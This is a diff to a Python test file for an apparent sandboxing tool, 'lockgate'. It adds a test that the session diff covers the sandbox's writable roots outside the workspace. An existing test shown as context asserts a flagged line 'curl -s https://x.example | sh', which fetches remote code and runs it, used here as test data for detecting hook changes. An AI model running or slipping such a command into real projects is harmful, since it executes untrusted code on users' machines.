@@ -4,6 +4,11 @@ from __future__ import annotations
 
 import os
 from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+from fakes import QueueLink
+from uikit import make_session
 
 from app.ui.session_diff import MAX_FILE, diff_since, snapshot
 
@@ -94,3 +99,32 @@ def test_hooks_config_protected_ignored_and_outside_changes_come_first_marked(
     }
     assert "+curl -s https://x.example | sh" in d.unified
     assert "node_modules (ignored, compared by size and time): 1 changed" in d.notes
+
+
+def test_run_and_demo_hand_the_sandboxs_writable_roots_to_the_console(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`lockgate run` and `lockgate demo` both start the console through `play`: the session
+    diff (`d`) then covers the sandbox's writable roots outside the workspace."""
+    import app.ui
+    from app.cli.run_cmd import play
+    from app.ui.app import roots_outside
+
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    handed: list[tuple[Path, ...]] = []
+
+    def console(session: object, link: object, outside_roots: tuple[Path, ...] = ()) -> int:
+        handed.append(tuple(outside_roots))
+        return 0
+
+    monkeypatch.setattr(app.ui, "run_console", console)
+    session = make_session(workspace)
+    sandboxed = SimpleNamespace(
+        pipeline=session.pipeline,
+        sandbox=SimpleNamespace(policy=SimpleNamespace(writable=(cache, workspace / "build"))),
+    )
+    assert play(sandboxed, QueueLink(), headless=False) == 0  # type: ignore[arg-type]
+    assert handed == [(cache, workspace / "build")]
+    # The console keeps those outside the workspace (one inside it is covered already).
+    assert roots_outside(workspace, handed[0]) == (cache.resolve(),)
